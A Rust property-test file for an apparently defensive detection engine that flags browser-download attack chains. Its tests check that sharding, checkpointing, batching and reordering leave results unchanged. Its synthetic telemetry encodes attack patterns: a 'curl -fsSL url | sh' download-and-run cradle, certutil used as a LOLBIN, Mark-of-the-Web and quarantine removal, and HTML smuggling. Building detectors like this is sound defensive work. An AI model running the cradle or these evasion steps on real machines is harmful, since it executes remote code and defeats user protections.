//! Equivalent ways of feeding the engine must give the same records (as datafrog's tests):
//! a stream shuffled within AllowedLateness equals it sorted, and many small batches (with
//! `advance_to` between pushes) equal one batch over the whole stream, and host-partitioned
//! shards on threads equal one engine. Equivalent implementations too: the naive evaluation
//! (crepe over the whole window each batch, the benchmark peer) equals the streaming one.

use std::net::IpAddr;
use std::sync::Arc;

use chrono::{DateTime, TimeZone, Utc};
use clickchain::logic::rules::RULES;
use clickchain::{AnyEngine, Config, Engine, Record, ShardedEngine};
use clickchain_adapters::{AttrChange, Event, EventKind, FileOp, Origin, Os, Position, ProcKey, SourceRef};
use proptest::prelude::*;

const T0: i64 = 1_715_677_200_000; // 2024-05-14T09:00:00Z
const LATENESS_MS: i64 = 5_000;

/// One browsing episode on a host; the flags decide which chain steps it has.
#[derive(Debug, Clone)]
struct Episode {
    host: u8,
    start_s: u32,
    risky: bool,
    click: bool,
    via_dns: bool,
    write_after_s: u32,
    partial: bool,
    run_it: bool,
    pid_keys: bool,
    /// 0: plain; 1: the lineage first reaches a second domain (redirect-chain); 2: the link
    /// comes from a mail client and the file is a disk image (mail-payload); 3: the file's
    /// Mark-of-the-Web is removed, then it runs (motw-removed-run); 4: a disk image, then a
    /// program on a mounted volume (container-run); 5: the file's origin is a `blob:` URL
    /// (html-smuggling); 6: a .dmg whose quarantine is removed, then a program on a mounted
    /// volume (macos-quarantine-stripped); 7: an Office document starts a LOLBIN with the URL,
    /// which downloads (office-lolbin); 8: the browser also starts a terminal running a
    /// `curl | sh` cradle (terminal-cradle).
    variant: u8,
}

fn episode() -> impl Strategy<Value = Episode> {
    (
        0u8..3,
        0u32..3_600,
        any::<bool>(),
        any::<bool>(),
        any::<bool>(),
        1u32..1_200,
        any::<bool>(),
        any::<bool>(),
        any::<bool>(),
        0u8..9,
    )
        .prop_map(|(host, start_s, risky, click, via_dns, write_after_s, partial, run_it, pid_keys, variant)| {
            Episode { host, start_s, risky, click, via_dns, write_after_s, partial, run_it, pid_keys, variant }
        })
}

struct Builder {
    events: Vec<Event>,
    input: Arc<str>,
}

impl Builder {
    fn push(&mut self, t: i64, host: &str, os: Os, kind: EventKind) {
        let line = self.events.len() as u64 + 1;
        let time: DateTime<Utc> = Utc.timestamp_millis_opt(t).unwrap();
        let source = SourceRef { input: Arc::clone(&self.input), pos: Position::Line(line) };
        self.events.push(Event { time, host: host.to_owned(), os: Some(os), source, kind });
    }
}

/// Builds a time-sorted stream with distinct timestamps from the episodes.
fn stream(episodes: &[Episode]) -> Vec<Event> {
    let mut b = Builder { events: Vec::new(), input: Arc::from("prop.ndjson") };
    for (n, e) in episodes.iter().enumerate() {
        let n = n as u32;
        let (host, os) = [("ws-1", Os::Windows), ("lx-2", Os::Linux), ("mac-3", Os::Macos)][e.host as usize];
        // Distinct millisecond offsets per episode keep every timestamp unique.
        let t = |s: f64| T0 + (f64::from(e.start_s) * 1000.0 + s * 1000.0) as i64 + i64::from(n) * 7;
        let key = |i: u32| if e.pid_keys { ProcKey::Pid(1000 + n * 10 + i) } else { ProcKey::Id(format!("g-{n}-{i}")) };
        let (mut browser, dir) = match os {
            Os::Windows => (r"C:\Program Files\Google\Chrome\Application\chrome.exe", r"C:\Users\u\Downloads\"),
            Os::Linux => ("/usr/lib/firefox/firefox", "/home/u/Downloads/"),
            Os::Macos => ("/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", "/Users/u/Downloads/"),
        };
        let domain = if e.risky { format!("files-{n}.example.top") } else { format!("site{n}.example.org") };
        let url = format!("https://{domain}/get");
        let ip: IpAddr = format!("203.0.113.{}", n % 250 + 1).parse().unwrap();
        let mut mail = match os {
            Os::Windows => r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
            Os::Linux => "/usr/lib/thunderbird/thunderbird",
            Os::Macos => "/System/Applications/Mail.app/Contents/MacOS/Mail",
        };
        if e.variant == 7 {
            // An Office root (a link source of class office) and a LOLBIN in the browser's place.
            (mail, browser) = match os {
                Os::Windows => (
                    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
                    r"C:\Windows\System32\certutil.exe",
                ),
                Os::Linux => ("/usr/lib/libreoffice/program/soffice.bin", "/usr/bin/curl"),
                Os::Macos => ("/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word", "/usr/bin/curl"),
            };
        }
        let cmd = if e.click { format!("{browser} {url}") } else { browser.to_owned() };
        let parent = (e.variant == 2 || e.variant == 7).then(|| key(3));
        if let Some(p) = &parent {
            b.push(t(-1.0), host, os, start(p.clone(), None, mail, mail));
        }
        b.push(t(0.0), host, os, start(key(0), parent, browser, &cmd));
        b.push(t(0.1), host, os, start(key(1), Some(key(0)), browser, "--type=utility"));
        if e.via_dns {
            b.push(
                t(0.5),
                host,
                os,
                EventKind::DnsAnswer { proc: Some(key(0)), query: domain.clone(), answers: vec![ip] },
            );
        }
        if e.variant == 1 {
            let hop = Some(format!("hop-{n}.example.xyz"));
            let hop_ip: IpAddr = format!("198.51.100.{}", n % 250 + 1).parse().unwrap();
            b.push(t(0.3), host, os, EventKind::Connect { proc: key(1), dst_ip: hop_ip, dst_port: 443, domain: hop });
        }
        let named = (!e.via_dns).then(|| domain.clone());
        b.push(t(0.6), host, os, EventKind::Connect { proc: key(1), dst_ip: ip, dst_port: 443, domain: named.clone() });
        if e.variant == 8 {
            let cradle = format!("bash -c \"curl -fsSL {url} | sh\"");
            b.push(t(0.65), host, os, start(key(4), Some(key(0)), "/usr/bin/xterm", &format!("xterm -e {cradle}")));
            b.push(t(0.7), host, os, start(key(5), Some(key(4)), "/usr/bin/bash", &cradle));
            b.push(t(0.75), host, os, start(key(6), Some(key(5)), "/usr/bin/curl", &format!("curl -fsSL {url}")));
            b.push(t(0.8), host, os, EventKind::Connect { proc: key(6), dst_ip: ip, dst_port: 443, domain: named });
        }
        let ext = match e.variant {
            2 | 4 => "iso",
            3 => "exe",
            6 => "dmg",
            _ => "zip",
        };
        let file = format!("{dir}file{n}.{ext}");
        let w = f64::from(e.write_after_s);
        let blob = (e.variant == 5).then(|| format!("blob:https://{domain}/5d1c-{n}"));
        if e.partial {
            let part = format!("{file}.crdownload");
            b.push(t(w - 0.5), host, os, write(key(0), &part, FileOp::Create, None));
            b.push(t(w), host, os, write(key(0), &file, FileOp::Rename { from: part }, blob.or(Some(url.clone()))));
        } else {
            b.push(t(w), host, os, write(key(0), &file, FileOp::Create, blob));
        }
        if e.variant == 3 || e.variant == 6 {
            let attr = if e.variant == 3 { AttrChange::MotwRemoved } else { AttrChange::QuarantineRemoved };
            b.push(t(w + 10.0), host, os, EventKind::FileAttr { proc: key(0), path: file.clone(), attr });
        }
        let mounted = match os {
            Os::Windows => format!(r"E:\setup{n}.exe"),
            Os::Linux => format!("/media/u/vol{n}/setup.sh"),
            Os::Macos => format!("/Volumes/vol{n}/Setup.app/Contents/MacOS/Setup"),
        };
        let ran = match e.variant {
            3 => Some(file.clone()),
            4 | 6 => Some(mounted),
            _ => None,
        };
        if let Some(image) = ran {
            b.push(t(w + 20.0), host, os, start(key(4), None, &image, &image));
        }
        if e.run_it {
            b.push(t(w + 30.0), host, os, start(key(2), None, "/usr/bin/unzip", &format!("unzip {file}")));
        }
        b.push(t(w + 60.0), host, os, EventKind::ProcessEnd { proc: key(1) });
        b.push(t(w + 61.0), host, os, EventKind::ProcessEnd { proc: key(0) });
    }
    b.events.sort_by_key(|e| e.time);
    b.events
}

fn start(proc: ProcKey, parent: Option<ProcKey>, image: &str, cmd: &str) -> EventKind {
    EventKind::ProcessStart {
        proc,
        parent,
        image: image.to_owned(),
        command_line: Some(cmd.to_owned()),
        user: None,
        session: None,
        forked: false,
        built: false,
    }
}

fn write(proc: ProcKey, path: &str, op: FileOp, url: Option<String>) -> EventKind {
    let origin = url.map(|url| Origin { url: Some(url), ..Origin::default() });
    EventKind::FileWrite { proc, path: path.to_owned(), op, origin: origin.map(Box::new) }
}

/// Every registered rule runs, so that every property holds for each of them.
fn config(batch_ms: u64) -> Config {
    let mut c = Config::default();
    c.rules.enabled = RULES.iter().map(|r| r.header.id.to_owned()).collect();
    c.engine.batch = std::time::Duration::from_millis(batch_ms);
    c.engine.allowed_lateness = std::time::Duration::from_millis(LATENESS_MS as u64);
    c
}

fn engine(batch_ms: u64) -> Engine {
    let mut e = Engine::new(config(batch_ms)).unwrap();
    e.set_now(Utc.timestamp_millis_opt(T0 + 86_400_000).unwrap());
    e
}

fn naive_engine(batch_ms: u64) -> Engine {
    let mut e = engine(batch_ms);
    e.set_naive_evaluation(true);
    e
}

/// Records as sorted JSON lines (order across hosts may differ between equivalent runs).
fn records(mut engine: Engine, events: impl IntoIterator<Item = Event>) -> Vec<String> {
    for e in events {
        engine.push(e);
    }
    engine.finish();
    assert_eq!(engine.stats().dropped.late, 0, "no event may be late in these runs");
    let mut out: Vec<String> = engine.drain().iter().map(Record::to_json).collect();
    out.sort();
    out
}

/// Arrival = event time + a delay below the lateness: never late, often out of order.
fn arrival_order(sorted: Vec<Event>, delays: &[i64]) -> Vec<Event> {
    let mut shuffled: Vec<(i64, usize, Event)> = sorted
        .into_iter()
        .enumerate()
        .map(|(i, e)| (e.time.timestamp_millis() + delays[i % delays.len()], i, e))
        .collect();
    shuffled.sort_by_key(|(arrival, i, _)| (*arrival, *i));
    shuffled.into_iter().map(|(_, _, e)| e).collect()
}

fn sharded_records(shards: usize, events: impl IntoIterator<Item = Event>) -> (Vec<String>, clickchain::Stats) {
    let mut engine = ShardedEngine::new(config(1_000), shards).unwrap();
    engine.set_now(Utc.timestamp_millis_opt(T0 + 86_400_000).unwrap());
    for e in events {
        engine.push(e);
    }
    engine.finish();
    let mut out: Vec<String> = engine.drain().iter().map(Record::to_json).collect();
    out.sort();
    (out, engine.stats().clone())
}

/// Pushes the events before `cut` into `before`, checkpoints it (records drained first or
/// left in the checkpoint), drops it, restores it and pushes the rest: the sorted records of
/// both runs, and the counters at the end.
fn across_a_restart(
    mut before: AnyEngine,
    events: &[Event],
    cut: usize,
    drain_first: bool,
) -> (Vec<String>, clickchain::Stats) {
    let now = Utc.timestamp_millis_opt(T0 + 86_400_000).unwrap();
    let cut = cut % (events.len() + 1);
    before.set_now(now);
    for e in events[..cut].iter().cloned() {
        before.push(e);
    }
    let mut got: Vec<String> =
        if drain_first { before.drain().iter().map(Record::to_json).collect() } else { Vec::new() };
    let mut bytes = Vec::new();
    before.checkpoint(&mut bytes).unwrap();
    drop(before);
    let mut after = AnyEngine::restore(config(1_000), &bytes[..]).unwrap();
    after.set_now(now);
    for e in events[cut..].iter().cloned() {
        after.push(e);
    }
    after.finish();
    got.extend(after.drain().iter().map(Record::to_json));
    got.sort();
    (got, after.stats().clone())
}

/// The pid a generated id `g-<n>-<i>` stands for: 50,000 + 10n + i, apart from the 1,000 + 10n + i
/// of pid-keyed episodes.
fn pid_of(id: &str) -> u32 {
    let mut parts = id.split('-').skip(1).map(|p| p.parse::<u32>().expect("generated id"));
    let (n, i) = (parts.next().unwrap_or(0), parts.next().unwrap_or(0));
    50_000 + n * 10 + i
}

/// Id keys become id-and-pid keys, as Sysmon names processes.
fn with_pids(mut events: Vec<Event>) -> Vec<Event> {
    let key = |k: &mut ProcKey| {
        if let ProcKey::Id(id) = k {
            *k = ProcKey::IdAndPid(id.clone(), pid_of(id));
        }
    };
    for e in &mut events {
        match &mut e.kind {
            EventKind::ProcessStart { proc, parent, .. } => {
                key(proc);
                parent.as_mut().map(key);
            }
            EventKind::ProcessEnd { proc }
            | EventKind::Connect { proc, .. }
            | EventKind::FileWrite { proc, .. }
            | EventKind::FileAttr { proc, .. }
            | EventKind::UrlOpen { proc, .. } => key(proc),
            EventKind::DnsAnswer { proc, .. } => {
                proc.as_mut().map(key);
            }
        }
    }
    events
}

/// Each start with an id and pid logged again by a pid-only source (Security 4688) `lag` ms
/// later, with the creator's pid: the twins, time-sorted into the stream. Twins get lines of
/// their own, after the stream's.
fn with_twins(events: &[Event], lags: &[i64]) -> (Vec<Event>, u64) {
    let mut out = events.to_vec();
    let mut twins = 0;
    for (i, e) in events.iter().enumerate() {
        let EventKind::ProcessStart { proc: ProcKey::IdAndPid(_, pid), parent, image, command_line, .. } = &e.kind
        else {
            continue;
        };
        let parent = parent.as_ref().map(|p| match p {
            ProcKey::IdAndPid(_, pp) | ProcKey::Pid(pp) => ProcKey::Pid(*pp),
            ProcKey::Id(id) => ProcKey::Id(id.clone()),
        });
        let kind = EventKind::ProcessStart {
            proc: ProcKey::Pid(*pid),
            parent,
            image: image.to_uppercase(),
            command_line: command_line.clone(),
            user: None,
            session: None,
            forked: false,
            built: false,
        };
        let time = e.time + chrono::Duration::milliseconds(lags[i % lags.len()]);
        let source = SourceRef { input: Arc::clone(&e.source.input), pos: Position::Line(1_000_000 + i as u64) };
        out.push(Event { time, host: e.host.clone(), os: e.os, source, kind });
        twins += 1;
    }
    out.sort_by_key(|e| e.time);
    (out, twins)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    /// Sysmon and Security 4688 both logging the starts (the Security record up to 6.5 s
    /// later, its image in another case) gives the records Sysmon alone gives, and every twin
    /// joins its process.
    #[test]
    fn second_source_logging_the_starts_changes_nothing(eps in prop::collection::vec(episode(), 1..8), lags in prop::collection::vec(0i64..6_500, 50)) {
        let sysmon = with_pids(stream(&eps));
        let expected = records(engine(1_000), sysmon.clone());
        let (both, twins) = with_twins(&sysmon, &lags);
        let mut e = engine(1_000);
        for ev in both {
            e.push(ev);
        }
        e.finish();
        prop_assert_eq!(e.stats().classified.joined_starts, twins);
        let mut got: Vec<String> = e.drain().iter().map(Record::to_json).collect();
        got.sort();
        prop_assert_eq!(got, expected);
    }

    #[test]
    fn sharded_equals_one_engine(eps in prop::collection::vec(episode(), 1..8), delays in prop::collection::vec(0i64..LATENESS_MS, 200), shards in 1usize..4) {
        let sorted = stream(&eps);
        let mut one = engine(1_000);
        for e in sorted.clone() {
            one.push(e);
        }
        one.finish();
        let mut expected: Vec<String> = one.drain().iter().map(Record::to_json).collect();
        expected.sort();
        let (got, stats) = sharded_records(shards, arrival_order(sorted, &delays));
        prop_assert_eq!(got, expected);
        let s1 = one.stats();
        prop_assert_eq!((stats.events_in, stats.events_processed, stats.alerts, stats.follow_ons), (s1.events_in, s1.events_processed, s1.alerts, s1.follow_ons));
        prop_assert_eq!(&stats.classified, &s1.classified);
    }

    /// Checkpointing, dropping the engine and restoring it anywhere in a stream gives the
    /// records and counters of a run that never stopped.
    #[test]
    fn checkpoint_and_restore_anywhere_changes_nothing(eps in prop::collection::vec(episode(), 1..8), delays in prop::collection::vec(0i64..LATENESS_MS, 200), cut in 0usize..2_000, drain_first in any::<bool>()) {
        let events = arrival_order(stream(&eps), &delays);
        let mut whole = engine(1_000);
        for e in events.clone() {
            whole.push(e);
        }
        whole.finish();
        let mut expected: Vec<String> = whole.drain().iter().map(Record::to_json).collect();
        expected.sort();

        let (got, s2) = across_a_restart(engine(1_000).into(), &events, cut, drain_first);
        prop_assert_eq!(got, expected);
        let s1 = whole.stats();
        prop_assert_eq!((s2.events_in, s2.events_processed, s2.alerts, s2.follow_ons, s2.duplicates_suppressed), (s1.events_in, s1.events_processed, s1.alerts, s1.follow_ons, s1.duplicates_suppressed));
        prop_assert_eq!(&s2.dropped, &s1.dropped);
    }

    /// The same for shards.
    #[test]
    fn sharded_checkpoint_and_restore_anywhere_changes_nothing(eps in prop::collection::vec(episode(), 1..8), cut in 0usize..2_000, drain_first in any::<bool>(), shards in 1usize..4) {
        let events = stream(&eps);
        let (expected, whole) = sharded_records(shards, events.clone());
        let before = ShardedEngine::new(config(1_000), shards).unwrap();
        let (got, after) = across_a_restart(before.into(), &events, cut, drain_first);
        prop_assert_eq!(got, expected);
        prop_assert_eq!((after.events_in, after.alerts), (whole.events_in, whole.alerts));
    }

    #[test]
    fn shuffled_within_lateness_equals_sorted(eps in prop::collection::vec(episode(), 1..8), delays in prop::collection::vec(0i64..LATENESS_MS, 200)) {
        let sorted = stream(&eps);
        let expected = records(engine(1_000), sorted.clone());
        let got = records(engine(1_000), arrival_order(sorted, &delays));
        prop_assert_eq!(got, expected);
    }

    #[test]
    fn many_batches_equal_one_batch(eps in prop::collection::vec(episode(), 1..8), batch_ms in 1u64..120_000, cuts in prop::collection::vec(any::<bool>(), 64)) {
        let events = stream(&eps);
        let whole = records(engine(3_600_000), events.clone());
        // Small batches, and the clock advanced to each event's time at random points.
        let mut e = engine(batch_ms);
        for (i, ev) in events.into_iter().enumerate() {
            let t = ev.time;
            e.push(ev);
            if cuts[i % cuts.len()] {
                e.advance_to(t);
            }
        }
        prop_assert_eq!(records(e, []), whole);
    }

    #[test]
    fn naive_evaluation_equals_streaming(eps in prop::collection::vec(episode(), 1..8), batch_ms in 1u64..60_000, delays in prop::collection::vec(0i64..LATENESS_MS, 200)) {
        let sorted = stream(&eps);
        let expected = records(engine(batch_ms), sorted.clone());
        let got = records(naive_engine(batch_ms), arrival_order(sorted, &delays));
        prop_assert_eq!(got, expected);
    }
}

#[test]
fn generated_streams_do_alert() {
    // Guards the properties against vacuity: the generator must produce alerts and non-alerts.
    let eps: Vec<Episode> = (0..6)
        .map(|i| Episode {
            host: (i % 3) as u8,
            start_s: i * 100,
            risky: i % 2 == 0,
            click: true,
            via_dns: i % 3 == 0,
            write_after_s: 30,
            partial: true,
            run_it: true,
            pid_keys: i % 2 == 1,
            variant: 0,
        })
        .collect();
    let out = records(engine(1_000), stream(&eps));
    let alerts = out.iter().filter(|r| r.contains("\"type\":\"alert\"")).count();
    assert_eq!(alerts, 3, "{out:#?}");
    assert!(out.iter().any(|r| r.contains("\"type\":\"follow_on\"")));
    assert_eq!(records(naive_engine(1_000), stream(&eps)), out, "the naive evaluation differs");
}

#[test]
fn generated_streams_fire_every_rule() {
    // Guards the properties against vacuity for each rule: the variants of the generator make
    // every registered rule alert, on every OS whose analytic it refines.
    let eps: Vec<Episode> = (0..27)
        .map(|i| Episode {
            host: (i % 3) as u8,
            start_s: i * 100,
            risky: true,
            click: true,
            via_dns: false,
            write_after_s: 30,
            partial: true,
            run_it: false,
            pid_keys: false,
            variant: (i / 3) as u8,
        })
        .collect();
    let out = records(engine(1_000), stream(&eps));
    for rule in RULES {
        let tag = format!("\"rule\":\"{}\"", rule.header.id);
        // On the OSes of the analytics it refines (a variant may exist on one OS only).
        for analytic in rule.header.refines {
            let hit = out.iter().any(|r| r.contains(&tag) && r.contains(analytic));
            assert!(hit, "no {analytic} alert of rule {}: {out:#?}", rule.header.id);
        }
    }
    assert_eq!(records(naive_engine(1_000), stream(&eps)), out, "the naive evaluation differs");
}
